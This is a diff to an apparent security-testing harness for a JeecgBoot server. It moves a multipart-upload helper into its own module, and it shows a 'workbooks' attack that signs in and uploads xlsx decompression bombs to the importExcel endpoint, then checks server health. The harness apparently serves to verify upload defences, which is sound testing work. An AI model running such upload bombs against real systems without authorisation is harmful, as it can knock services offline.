@@ -1,6 +1,7 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import type { Attack, AttackGroup } from './attack.ts';
 import { send, signIn } from './client.ts';
+import { formOf } from './form.ts';
 import { bombs } from './workbook-bombs.ts';
 
 const API = '/jeecg-boot';
@@ -32,15 +33,6 @@ const flood: Attack = {
   },
 };
 
-const formOf = (content: Buffer) => {
-  const boundary = 'mortise-attack';
-  const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.xlsx"\r\ncontent-type: application/octet-stream\r\n\r\n`;
-  return {
-    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
-    body: Buffer.concat([Buffer.from(head), content, Buffer.from(`\r\n--${boundary}--\r\n`)]),
-  };
-};
-
 const workbooks: Attack = {
   name: 'small workbooks that unpack to 40 MB',
   rule: 'V5.2.3',
@@ -49,7 +41,11 @@ const workbooks: Attack = {
     const token = await signIn(target);
     const answers: string[] = [];
     for (const [name, content] of Object.entries(bombs())) {
-      const { json } = await send(target.origin, `${API}/sys/position/importExcel`, { method: 'POST', token, ...formOf(content) });
+      const { json } = await send(target.origin, `${API}/sys/position/importExcel`, {
+        method: 'POST',
+        token,
+        ...formOf('a.xlsx', content),
+      });
       answers.push(`${name}: ${json?.success ? 'imported' : json?.message}`);
     }
     const health = await send(target.origin, '/health');
